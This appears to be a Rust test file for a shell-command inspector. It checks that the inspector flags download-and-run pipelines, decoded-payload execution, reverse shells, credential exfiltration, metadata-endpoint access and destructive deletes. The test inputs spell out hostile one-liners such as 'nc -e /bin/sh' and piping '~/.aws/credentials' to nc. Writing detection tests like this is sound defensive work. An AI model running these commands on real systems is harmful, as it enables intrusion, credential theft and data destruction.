use chainwright_core::limits::Limits;
use chainwright_core::location::Place;

use crate::facts::{BehaviourKind, ShellFacts};
use crate::inspect_shell;

fn inspect(text: &str) -> ShellFacts {
    inspect_shell(text, &Limits::default())
}

#[track_caller]
fn check(text: &str, expected: &[BehaviourKind]) {
    let kinds: Vec<BehaviourKind> = inspect(text)
        .behaviours
        .iter()
        .map(|behaviour| behaviour.kind)
        .collect();
    for kind in expected {
        assert!(kinds.contains(kind), "{text}: {kinds:?}");
    }
    if expected.is_empty() {
        assert_eq!(kinds, [], "{text}");
    }
}

#[test]
fn commands_are_told_by_what_flows() {
    use BehaviourKind as Kind;
    for (text, expected) in [
        ("curl http://203.0.113.1/x | sh", vec![Kind::DownloadAndRun]),
        (
            "curl http://203.0.113.1/x | tee /tmp/x | sudo -E bash -",
            vec![Kind::DownloadAndRun],
        ),
        (
            "curl http://203.0.113.1/x > /tmp/x; sh /tmp/x",
            vec![Kind::DownloadAndRun],
        ),
        (
            ". <(curl -s http://203.0.113.1/x)",
            vec![Kind::DownloadAndRun],
        ),
        ("echo aWQ= | base64 --decode | sh", vec![Kind::ExecDecoded]),
        (
            "echo aWQ= | base64 -d > /tmp/x && bash /tmp/x",
            vec![Kind::ExecDecoded],
        ),
        (
            "x=$(echo aWQ= | base64 -d); eval $x",
            vec![Kind::ExecDecoded],
        ),
        (
            "timeout 5 nc -e /bin/sh 203.0.113.1 1",
            vec![Kind::ReverseShell],
        ),
        (
            "cat ~/.aws/credentials | nc 203.0.113.1 1",
            vec![Kind::Exfiltration, Kind::CredentialAccess],
        ),
        (
            "curl http://169.254.169.254/latest/meta-data/",
            vec![Kind::CredentialAccess],
        ),
        ("curl https://x.ngrok.io/a", vec![Kind::SuspiciousEndpoint]),
        ("find / -delete", vec![Kind::Destruction]),
        ("ls -la | grep x", vec![]),
        ("curl -sO https://example.org/data.csv", vec![]),
    ] {
        check(text, &expected);
    }
}

#[test]
fn a_place_is_the_line() {
    let facts = inspect("echo a\n\n# curl | sh\ncurl http://203.0.113.1 \\\n  | sh\n");
    let places: Vec<&Place> = facts
        .behaviours
        .iter()
        .map(|behaviour| &behaviour.place)
        .collect();
    assert_eq!(places, [&Place::Line { line: 4, column: 1 }]);
}

#[test]
fn nested_substitutions_have_an_end() {
    let text = format!("{}id{}", "$(".repeat(5_000), ")".repeat(5_000));
    let facts = inspect(&text);
    assert_eq!(facts.problems.len(), 1);
    let text = format!("{}id", "sh -c '".repeat(500));
    assert_eq!(inspect(&text), inspect(&text));
}

#[test]
fn growing_variables_have_an_end() {
    let mut text = "a=xxxxxxxxxxxxxxxx\n".to_owned();
    for _ in 0..60 {
        text.push_str("a=$a$a$a$a\n");
    }
    assert_eq!(inspect(&text).behaviours, []);
}
